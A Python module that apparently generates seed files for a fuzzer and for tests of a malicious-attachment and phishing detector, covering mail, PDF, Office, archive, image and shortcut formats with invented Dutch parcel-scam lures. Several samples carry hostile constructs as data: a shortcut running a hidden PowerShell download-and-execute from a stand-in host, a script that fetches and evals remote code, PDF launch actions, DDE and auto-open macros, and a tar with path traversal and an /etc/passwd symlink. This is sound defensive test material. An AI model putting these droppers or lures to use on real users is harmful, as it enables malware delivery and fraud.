"""One small file of every kind, made in code: what the fuzzer mutates and what the tests of the readers begin with.

All people, firms and domains are invented.
"""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from PIL.Image import Image

SAMPLES = Path(__file__).parents[1] / "tests" / "samples"
ADDRESS = "https://inloggen.levering-melding.example/pakket?nr=4471"
SENTENCE = "Beste klant, uw pakket wacht op betaling van 2,99 euro. Kies een dag via de knop hieronder."


def mail(attachments: Iterable[tuple[str, bytes]] = ()) -> bytes:
    """A message with a plain and an HTML body and some attachments."""
    from email.message import EmailMessage

    message = EmailMessage()
    message["From"] = "Levering Melding <info@levering-melding.example>"
    message["To"] = "els@bakkerijvanhove.example"
    message["Subject"] = "Uw pakket wacht"
    message["Date"] = "Mon, 02 Mar 2026 09:15:00 +0100"
    message["Message-ID"] = "<1@levering-melding.example>"
    message.set_content(f"{SENTENCE}\n{ADDRESS}\n")
    message.add_alternative(html().decode(), subtype="html")
    for name, data in attachments:
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def mbox() -> bytes:
    return b"".join(b"From info@levering-melding.example Mon Mar  2 09:15:00 2026\n" + mail() + b"\n" for _ in range(2))


def html() -> bytes:
    return f"""<!doctype html><html><head><title>Pakket</title><style>.h{{display:none}}</style></head><body>
    <p>{SENTENCE}</p><p class="h">verborgen</p><a href="{ADDRESS}">levering-melding.example</a>
    <form action="https://formulier.example/verzend"><input type="password"></form>
    <script>var b = new Blob([atob('{"QUJD" * 20}')]); location.href = 'https://volgende.example/';</script></body></html>""".encode()


def svg() -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg"><a href="{ADDRESS}"><text>Open</text></a><script>1</script></svg>'.encode()


def text() -> bytes:
    return f"{SENTENCE}\n\n{ADDRESS}\n\nMet vriendelijke groet\nLevering Melding\n".encode()


def chat() -> bytes:
    return (
        f"12-03-2026 09:14 - Mama nieuw nummer: Hoi, dit is mijn nieuwe nummer.\n12-03-2026 09:15 - Els: Wie is dit?\n"
        f"12-03-2026 09:16 - Mama nieuw nummer: {ADDRESS}\n"
    ).encode()


def calendar() -> bytes:
    return (
        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Overleg\r\nORGANIZER;CN=Tom:mailto:tom@firma.example\r\n"
        f"DTSTART:20260302T091500Z\r\nDESCRIPTION:Meld u aan: {ADDRESS}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    ).encode()


def contact() -> bytes:
    return (
        b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Tom Maes\r\nEMAIL:tom@firma.example\r\nTEL:+32470000002\r\n"
        b"URL:https://firma.example/\r\nEND:VCARD\r\n"
    )


def invoice() -> bytes:
    common, invoice = (
        f"urn:oasis:names:specification:ubl:schema:xsd:{name}-2" for name in ("CommonBasicComponents", "Invoice")
    )
    party = "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Invoice xmlns="{invoice}" xmlns:cac="{party}" xmlns:cbc="{common}">'
        "<cbc:ID>4711</cbc:ID><cbc:Note>Graag binnen acht dagen betalen.</cbc:Note><cac:AccountingSupplierParty><cac:Party><cac:PartyLegalEntity>"
        "<cbc:RegistrationName>Firma</cbc:RegistrationName></cac:PartyLegalEntity></cac:Party></cac:AccountingSupplierParty><cac:PaymentMeans>"
        "<cac:PayeeFinancialAccount><cbc:ID>BE68539007547034</cbc:ID></cac:PayeeFinancialAccount></cac:PaymentMeans>"
        '<cac:LegalMonetaryTotal><cbc:PayableAmount currencyID="EUR">120.50</cbc:PayableAmount></cac:LegalMonetaryTotal></Invoice>'
    ).encode()


# --- PDF ---------------------------------------------------------------------------------------------------------------------


def pdf(
    words: str = "Uw factuur staat klaar. " * 12,
    *,
    address: str = ADDRESS,
    catalog: str = "",
    extra: Iterable[bytes] = (),
    picture: "Image | None" = None,
    packed: bool = False,
) -> bytes:
    """A one-page PDF with words, one link, and whatever `catalog` and `extra` objects (from number 7 on) add."""
    lines = [words[at : at + 80] for at in range(0, len(words), 80)]
    shown = " ".join(f"({line.translate({40: None, 41: None, 92: None})}) Tj 0 -14 Td" for line in lines)
    content = f"BT /F1 11 Tf 50 780 Td {shown} ET".encode("cp1252", "replace")
    resources = "/Font << /F1 6 0 R >>"
    pictures: list[bytes] = []
    if picture is not None:
        gray = picture.convert("L")
        data = zlib.compress(gray.tobytes())
        head = f"<< /Type /XObject /Subtype /Image /Width {gray.width} /Height {gray.height} /ColorSpace /DeviceGray "
        pictures = [stream(head + "/BitsPerComponent 8 /Filter /FlateDecode", data)]
        resources += " /XObject << /P 7 0 R >>"
        content += b" q 250 0 0 250 150 300 cm /P Do Q"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] /Resources << {resources} >> >>".encode(),
        stream("<< /Filter /FlateDecode", zlib.compress(content)) if packed else stream("<<", content),
        f"<< /Type /Annot /Subtype /Link /Rect [45 770 300 795] /A << /S /URI /URI ({address}) >> >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        *pictures,
        *extra,
    ]
    return pdf_file(objects)


def stream(head: str, data: bytes) -> bytes:
    """A PDF stream object; `head` is its dictionary without /Length and without the end."""
    return f"{head} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def pdf_file(objects: Iterable[bytes], trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer.encode(), start)
    return bytes(out)


def pdf_with_everything() -> bytes:
    """A PDF that runs a script, starts a program, sends a form and carries a file."""
    return pdf(
        catalog="/OpenAction 7 0 R /Names << /EmbeddedFiles << /Names [(lijst.txt) 8 0 R] >> >> /AcroForm << /Fields [] >>",
        extra=[
            b"<< /S /JavaScript /JS (app.launchURL\\('https://script.example/'\\)) /Next << /S /Launch /F (cmd.exe) >> >>",
            b"<< /Type /Filespec /F (lijst.txt) /UF (lijst.txt) /EF << /F 9 0 R >> >>",
            stream("<< /Type /EmbeddedFile", text()),
            b"<< /S /SubmitForm /F << /FS /URL /F (https://formulier.example/) >> >>",
        ],
    )


# --- Office ------------------------------------------------------------------------------------------------------------------


def zip_of(members: Mapping[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, compression)
    return file.getvalue()


def relationships(*lines: tuple[str, str]) -> bytes:
    """A .rels member with external relationships of (type, target)."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    made = "".join(
        f'<Relationship Id="r{n}" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(lines)
    )
    return f"<?xml version='1.0'?><Relationships>{made}</Relationships>".encode()


def docx(**more: bytes) -> bytes:
    """A Word document with a hyperlink, a template from elsewhere, a DDE field, macros and an embedded object."""
    members = {
        "[Content_Types].xml": b"<Types></Types>",
        "word/document.xml": (
            f"<w:document><w:body><w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
            "<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>"
        ).encode(),
        "word/_rels/document.xml.rels": relationships(("hyperlink", ADDRESS)),
        "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "https://sjabloon.example/t.dotm")),
        "word/vbaProject.bin": ole({"VBA/Module1": vba_module(b'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n')}),
        "word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": native("factuur.txt", text())}),
        "word/media/image1.png": png(qr()),
    }
    return zip_of(members | {name.replace("__", "/"): data for name, data in more.items()})


def xlsx() -> bytes:
    return zip_of({
        "[Content_Types].xml": b"<Types></Types>",
        "xl/sharedStrings.xml": f"<sst><si><t>{SENTENCE}</t></si></sst>".encode(),
        "xl/worksheets/sheet1.xml": b"<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>",
        "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>",
    })  # fmt: skip


def odt() -> bytes:
    return zip_of({
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": (
            f'<office:text><text:p>{SENTENCE}<text:a xlink:type="simple" xlink:href="{ADDRESS}">Open</text:a></text:p>'
            '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M?language=Basic"/></office:text>'
        ).encode(),
        "Basic/Standard/Module1.xml": b"<script:module>Sub Main</script:module>",
    })  # fmt: skip


def vba_module(source: bytes) -> bytes:
    """A module stream: some bytes of code, then the source as an [MS-OVBA] container of literal tokens."""
    source = b'Attribute VB_Name = "Module1"\r\n' + source
    packed = bytearray(b"\x01")
    for start in range(0, len(source), 3600):
        chunk = source[start : start + 3600]
        tokens = b"".join(b"\0" + chunk[at : at + 8] for at in range(0, len(chunk), 8))
        packed += struct.pack("<H", 0xB000 | (len(tokens) - 1)) + tokens
    return b"\x16\x03\x00\x00" + bytes(packed)


def native(name: str, data: bytes) -> bytes:
    """An Ole10Native stream that carries a file."""
    label = name.encode("cp1252") + b"\0"
    body = (
        b"\x02\x00"
        + label
        + label
        + b"\0\0\x03\0"
        + struct.pack("<I", len(label))
        + label
        + struct.pack("<I", len(data))
        + data
    )
    return struct.pack("<I", len(body)) + body


def ole(streams: Mapping[str, bytes], clsid: bytes = bytes(16)) -> bytes:
    """A compound file ([MS-CFB] version 3) with these streams; a path may have one folder."""
    padded = {path: data + bytes(max(4096 - len(data), 0)) for path, data in streams.items()}
    folders = list(dict.fromkeys(path.rpartition("/")[0] for path in padded if "/" in path))
    entries: list[tuple[str, int, int, int, int, int]] = []  # name, type, next sibling, child, first sector, size
    sectors: list[bytes] = []
    chain: list[int] = []

    def lay(data: bytes) -> int:
        first = len(sectors)
        count = max((len(data) + 511) // 512, 1)
        sectors.extend(data[at * 512 : (at + 1) * 512].ljust(512, b"\0") for at in range(count))
        chain.extend([*range(first + 1, first + count), 0xFFFFFFFE])
        return first

    none = 0xFFFFFFFF
    tops = [*folders, *(path for path in padded if "/" not in path)]
    entries.append(("Root Entry", 5, none, 1 if tops else none, 0xFFFFFFFE, 0))
    position = len(tops) + 1
    inner: list[tuple[str, int, int, int, int, int]] = []
    for number, path in enumerate(tops, 1):
        after = number + 1 if number < len(tops) else none
        if path in folders:
            children = [p for p in padded if p.startswith(path + "/")]
            entries.append((path, 1, after, position, 0, 0))
            for place, child in enumerate(children):
                follow = position + place + 1 if place + 1 < len(children) else none
                inner.append((child.rpartition("/")[2], 2, follow, none, lay(padded[child]), len(padded[child])))
            position += len(children)
        else:
            entries.append((path, 2, after, none, lay(padded[path]), len(padded[path])))
    directory = b"".join(_entry(*entry, clsid if entry[1] == 5 else bytes(16)) for entry in [*entries, *inner])
    directory += bytes(-len(directory) % 512)
    start = lay(directory)
    tables = (len(sectors) + 126) // 127
    table_start = len(sectors)
    chain.extend([0xFFFFFFFD] * tables)
    table = struct.pack(f"<{len(chain)}I", *chain).ljust(tables * 512, b"\xff")
    places = struct.pack("<109I", *(table_start + n if n < tables else none for n in range(109)))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, tables, start, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    return head.ljust(76, b"\0") + places + b"".join(sectors) + table


def _entry(name: str, kind: int, after: int, child: int, start: int, size: int, clsid: bytes) -> bytes:
    wide = name.encode("utf-16-le")
    return (
        wide.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(wide) + 2, kind, 1, 0xFFFFFFFF, after, child)
        + clsid
        + struct.pack("<IQQIQ", 0, 0, 0, start, size)
    )


def doc() -> bytes:
    return ole({
        "WordDocument": bytes(512) + f"{SENTENCE} {ADDRESS}".encode("cp1252"),
        "VBA/Module1": vba_module(b"Sub Document_Open()\r\nEnd Sub\r\n"),
        "\x01Ole10Native": native("lijst.txt", text()),
    })  # fmt: skip


def xls() -> bytes:
    """An old workbook with a hidden Excel 4 macro sheet."""
    return ole({"Workbook": struct.pack("<HHIBB", 0x85, 6, 0, 1, 1) + struct.pack("<HH", 0x0A, 0)})


def msg() -> bytes:
    return ole({"__properties_version1.0": bytes(64), "__substg1.0_0037001F": "Uw pakket".encode("utf-16-le")})


def rtf() -> bytes:
    held = native("lijst.txt", text())[4:].hex().encode()
    return (
        b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}{\\*\\generator Maker;}{\\*\\template https://sjabloon.example/t.dotm}\\f0 "
        + SENTENCE.encode()
        + b"\\par caf\\'e9 \\u8364? {\\field{\\*\\fldinst HYPERLINK \""
        + ADDRESS.encode()
        + b'"}{\\fldrslt hier}}{\\object\\objemb{\\*\\objdata '
        + held
        + b"}}}"
    )


def onenote() -> bytes:
    guid = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    inner = b"MZ" + bytes(100)
    return (
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64) + "Dubbelklik om te openen".encode("utf-16-le") + bytes(6)
        + "factuur.exe".encode("utf-16-le") + bytes(6) + guid + struct.pack("<QIQ", len(inner), 0, 0) + inner
    )  # fmt: skip


# --- archives ----------------------------------------------------------------------------------------------------------------


def archive() -> bytes:
    return zip_of({"factuur.txt": text(), "map/prijs.html": html(), "foto.png": png(qr())})


def chat_zip() -> bytes:
    return zip_of({"_chat.txt": chat()})


def tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as made:
        for name, data in (("factuur.txt", text()), ("../boven.html", html())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            made.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("wijzer")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        made.addfile(link)
    return file.getvalue()


def gz() -> bytes:
    return gzip.compress(tar(), mtime=0)


def bzip() -> bytes:
    return bz2.compress(text())


def xz() -> bytes:
    return lzma.compress(text())


def sevenzip(password: str | None = None) -> bytes:
    import py7zr

    file = io.BytesIO()
    with py7zr.SevenZipFile(file, "w", password=password) as made:
        made.writestr(text(), "factuur.txt")
        made.writestr(html(), "map/prijs.html")
    return file.getvalue()


def rar(name: bytes = b"factuur.txt", flags: int = 0x8000) -> bytes:
    """A RAR 3 archive with one stored file."""

    def block(body: bytes) -> bytes:
        return struct.pack("<H", zlib.crc32(body) & 0xFFFF) + body

    data = text()
    head = struct.pack("<BHHIIBIIBBHI", 0x74, flags, 32 + len(name), len(data), len(data), 3, zlib.crc32(data), 0x5A210000, 20, 0x30,
                       len(name), 0x20) + name  # fmt: skip
    return (
        b"Rar!\x1a\x07\x00"
        + block(struct.pack("<BHHHI", 0x73, 0, 13, 0, 0))
        + block(head)
        + data
        + block(b"\x7b\x00\x40\x07\x00")
    )


def iso(name: str = "Factuur maart.exe") -> bytes:
    """An ISO 9660 image with Joliet names and one program."""

    def record(where: int, size: int, flags: int, label: bytes) -> bytes:
        body = struct.pack("<IxxxxIxxxx7xBxxxxxx", where, size, flags) + bytes([len(label)]) + label
        body = b"\0" + body
        body += b"\0" * (len(body) % 2 == 0)
        return bytes([len(body) + 1]) + body

    def descriptor(kind: int, folder: int, escapes: bytes) -> bytes:
        body = bytes([kind]) + b"CD001\x01" + bytes(81) + escapes.ljust(32, b"\0")
        return (body.ljust(156, b"\0") + record(folder, 2048, 2, b"\0")).ljust(2048, b"\0")

    program = b"MZ" + bytes(200)
    dots = record(19, 2048, 2, b"\0") + record(19, 2048, 2, b"\1")
    plain = dots + record(21, len(program), 0, b"FACTUUR.EXE;1")
    joliet = dots + record(21, len(program), 0, f"{name};1".encode("utf-16-be"))
    return (
        bytes(16 * 2048)
        + descriptor(1, 19, b"")
        + descriptor(2, 20, b"%/E")
        + (b"\xffCD001\x01").ljust(2048, b"\0")
        + plain.ljust(2048, b"\0")
        + joliet.ljust(2048, b"\0")
        + program.ljust(2048, b"\0")
    )


def shortcut(command: str = "powershell.exe", arguments: str = "-w hidden iwr https://ophalen.example/a.ps1 | iex") -> bytes:
    """A Windows shortcut that runs a command."""

    def counted(words: str) -> bytes:
        return struct.pack("<H", len(words)) + words.encode("utf-16-le")

    flags = 0x80 | 0x8 | 0x20 | 0x40
    head = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + struct.pack("<I", flags)
    return head.ljust(76, b"\0") + counted(command) + counted(arguments) + counted("C:\\icons\\pdf.ico") + bytes(4)


def script() -> bytes:
    return b"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'https://ophalen.example/a'); eval(x.responseText);"


def pointer() -> bytes:
    return f"[InternetShortcut]\r\nURL={ADDRESS}\r\n".encode()


def tnef() -> bytes:
    name, inner = b"factuur.txt\0", text()

    def attribute(level: int, tag: int, data: bytes) -> bytes:
        return struct.pack("<BII", level, tag, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    return b"\x78\x9f\x3e\x22\x01\x00" + b"".join(
        (attribute(1, 0x00089006, b"\0\0\1\0"), attribute(2, 0x00069002, bytes(14)), attribute(2, 0x00018010, name),
         attribute(2, 0x0006800F, inner))
    )  # fmt: skip


# --- pictures and codes ------------------------------------------------------------------------------------------------------


def modules(payload: str = ADDRESS) -> list[list[bool]]:
    """The modules of a QR code with its quiet zone, True for dark."""
    import numpy
    import zxingcpp

    made = zxingcpp.create_barcode(payload, zxingcpp.BarcodeFormat.QRCode, ec_level="M")
    return [[bool(value < 128) for value in row] for row in numpy.asarray(made.to_image(scale=1, add_quiet_zones=True))]


def qr(payload: str = ADDRESS, cell: int = 5) -> "Image":
    from PIL import Image

    rows = modules(payload)
    small = Image.new("L", (len(rows), len(rows)), 255)
    small.putdata([0 if dark else 255 for row in rows for dark in row])
    return small.resize((len(rows) * cell, len(rows) * cell), Image.Resampling.NEAREST)


def dotted_qr(payload: str = ADDRESS, cell: int = 10, radius: float = 0.35) -> "Image":
    """A QR code of which each module is a loose dot; `radius` in modules."""
    from PIL import Image, ImageDraw

    rows = modules(payload)
    image = Image.new("L", (len(rows) * cell, len(rows) * cell), 255)
    pen = ImageDraw.Draw(image)
    for y, row in enumerate(rows):
        for x, dark in enumerate(row):
            if dark:
                centre = ((x + 0.5) * cell, (y + 0.5) * cell)
                reach = radius * cell
                pen.ellipse((centre[0] - reach, centre[1] - reach, centre[0] + reach, centre[1] + reach), fill=0)
    return image


def written(words: str = SENTENCE, size: tuple[int, int] = (900, 260)) -> "Image":
    """A picture with words."""
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("RGB", size, "white")
    pen = ImageDraw.Draw(image)
    letters = ImageFont.load_default(28)
    for number, at in enumerate(range(0, len(words), 55)):
        pen.text((20, 20 + number * 44), words[at : at + 55], fill="black", font=letters)
    return image


def saved(image: "Image", form: str) -> bytes:
    file = io.BytesIO()
    image.save(file, form)
    return file.getvalue()


def png(image: "Image") -> bytes:
    return saved(image, "PNG")


def sound() -> bytes:
    return (
        b"RIFF"
        + struct.pack("<I", 36 + 64)
        + b"WAVEfmt "
        + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8)
        + b"data"
        + bytes(68)
    )


def video() -> bytes:
    return struct.pack(">I4s4sI", 24, b"ftyp", b"isom", 512) + b"isommp41" + bytes(64)


Maker = Callable[[], bytes]
SEEDS: Mapping[str, tuple[tuple[str, Maker], ...]] = {
    "mail": (("bericht.eml", mail), ("bijlagen.eml", lambda: mail([("a.zip", archive()), ("b.pdf", pdf())]))),
    "mbox": (("postvak.mbox", mbox),),
    "html": (("pagina.html", html),),
    "svg": (("beeld.svg", svg),),
    "text": (("tekst.txt", text),),
    "chat": (("_chat.txt", chat),),
    "link": (("link.txt", ADDRESS.encode),),
    "calendar": (("afspraak.ics", calendar),),
    "contact": (("kaart.vcf", contact),),
    "invoice": (("factuur.xml", invoice),),
    "pdf": (("factuur.pdf", pdf), ("alles.pdf", pdf_with_everything), ("code.pdf", lambda: pdf("Scan", picture=qr(cell=3)))),
    "office": (("brief.docx", docx), ("lijst.xlsx", xlsx), ("brief.odt", odt)),
    "ole": (("brief.doc", doc), ("lijst.xls", xls), ("dicht.docx", lambda: ole({"EncryptedPackage": bytes(64)}))),
    "msg": (("bericht.msg", msg),),
    "rtf": (("brief.rtf", rtf),),
    "onenote": (("blad.one", onenote),),
    "zip": (("stukken.zip", archive), ("chat.zip", chat_zip)),
    "7z": (("stukken.7z", sevenzip),),
    "rar": (("stukken.rar", rar),),
    "tar": (("stukken.tar", tar),),
    "gz": (("stukken.tar.gz", gz),),
    "bz2": (("tekst.txt.bz2", bzip),),
    "xz": (("tekst.txt.xz", xz),),
    "iso": (("schijf.iso", iso),),
    "shortcut": (("factuur.lnk", shortcut),),
    "script": (("factuur.js", script), ("openen.url", pointer)),
    "program": (("factuur.exe", lambda: b"MZ" + bytes(200)),),
    "picture": (
        ("code.png", lambda: png(qr(cell=3))),
        ("punten.png", lambda: png(dotted_qr(cell=4))),
        ("foto.jpg", lambda: saved(qr(cell=3), "JPEG")),
        ("beeld.gif", lambda: saved(qr(cell=3), "GIF")),
        ("beeld.bmp", lambda: saved(qr(cell=2), "BMP")),
        ("beeld.tiff", lambda: saved(qr(cell=2), "TIFF")),
        ("beeld.webp", lambda: saved(qr(cell=2), "WEBP")),
        ("getekend.png", lambda: (SAMPLES / "provenance/content_credentials/speaks-unknown-signer.png").read_bytes()),
        ("gemaakt.png", lambda: (SAMPLES / "provenance/made_with_ai/speaks-recipe.png").read_bytes()),
    ),
    "sound": (("bericht.wav", sound),),
    "video": (("film.mp4", video),),
    "tnef": (("winmail.dat", tnef),),
    "unknown": (("raar.dat", lambda: bytes(range(256)) * 4),),
}  # fmt: skip
